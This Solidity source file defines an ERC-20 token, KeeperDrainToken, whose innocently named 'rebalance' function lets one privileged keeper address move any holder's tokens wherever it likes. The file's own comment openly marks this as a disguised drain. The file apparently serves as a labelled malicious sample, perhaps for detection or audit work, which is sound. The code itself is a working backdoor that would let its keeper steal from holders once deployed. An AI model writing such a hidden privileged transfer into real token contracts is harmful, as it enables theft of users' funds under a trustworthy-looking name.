// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";

/// An innocent name; one address can take what any holder has.
contract KeeperDrainToken is Erc20 {
    address private _keeper;

    constructor(string memory name_, string memory symbol_, address keeper) Erc20(name_, symbol_) {
        _keeper = keeper;
    }

    function rebalance(address account, address to, uint256 amount) external returns (bool) {
        require(msg.sender == _keeper, "not the keeper");
        _move(account, to, amount);
        return true;
    }
}
